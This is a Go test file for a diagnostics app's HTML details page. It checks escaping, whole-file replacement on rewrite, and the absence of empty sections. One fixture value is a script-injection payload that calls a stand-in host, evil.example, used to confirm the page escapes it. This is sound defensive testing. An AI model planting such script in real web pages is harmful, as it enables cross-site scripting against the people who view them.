package tray

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/clearance-app/clearance/agent/diag/finding"
	"github.com/clearance-app/clearance/internal/winegap"
)

func TestDetailsPage(t *testing.T) {
	now := time.Date(2026, 11, 27, 14, 30, 0, 0, time.UTC)
	fd := finding.ClockSkew.New(now.Add(-time.Hour), map[string]any{
		"offset_seconds": -92.4, "method": "ntp", "sources": []string{"time.cloudflare.com"},
		"server": `</td><script>fetch("https://evil.example/")</script><td>`,
	})
	dir := filepath.Join(winegap.TempDir(t), "details")
	path, err := writeDetails(dir, fd, now)
	if err != nil {
		t.Fatal(err)
	}
	if filepath.Base(path) != "clock-skew.html" {
		t.Fatalf("path %s", path)
	}
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	p := checkPage(t, b, "The clock is 92 seconds behind", fd.Detail, map[string]string{
		"method":         "ntp",
		"offset_seconds": "-92.4",
		"sources":        `["time.cloudflare.com"]`,
		"server":         `</td><script>fetch("https://evil.example/")</script><td>`,
	}, []string{"Sync the clock now"})
	if !bytes.Contains(b, []byte("&lt;script&gt;")) {
		t.Errorf("the planted script is not escaped:\n%s", b)
	}
	for _, want := range []string{"Warning", "Seen since 27 Nov 2026 13:30:00", "clock check (code clock-skew)"} {
		if !strings.Contains(p.text, want) {
			t.Errorf("the page lacks %q:\n%s", want, p.text)
		}
	}

	// Written again: the same file, replaced whole, and nothing else left
	// in the directory, not even what an earlier write killed half-way left.
	fd.Severity = finding.Critical
	plantLeftover(t, path) // a write killed an hour ago
	if again, err := writeDetails(dir, fd, now.Add(time.Minute)); err != nil || again != path {
		t.Fatalf("again: %s %v", again, err)
	}
	b, _ = os.ReadFile(path)
	if p := parsePage(t, b); !strings.Contains(p.text, "Critical") {
		t.Errorf("the page was not replaced:\n%s", p.text)
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 1 {
		t.Errorf("the directory holds %d entries, want the one page", len(entries))
	}
}

// A finding without evidence, fixes or a start time still makes a page,
// without empty sections.
func TestDetailsPageOfABareFinding(t *testing.T) {
	f := finding.Finding{Code: "x", Title: "Something & more", Detail: "Plain text.", Severity: finding.Info, Check: "dns"}
	b, err := detailsHTML(f, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	p := checkPage(t, b, "Something & more", "Plain text.", map[string]string{}, nil)
	for _, absent := range []string{"Seen since", "What was measured", "What Clearance can do"} {
		if strings.Contains(p.text, absent) {
			t.Errorf("the page says %q:\n%s", absent, p.text)
		}
	}
	if bytes.Contains(b, []byte("<table")) || bytes.Contains(b, []byte("<ul")) {
		t.Errorf("empty sections:\n%s", b)
	}
}
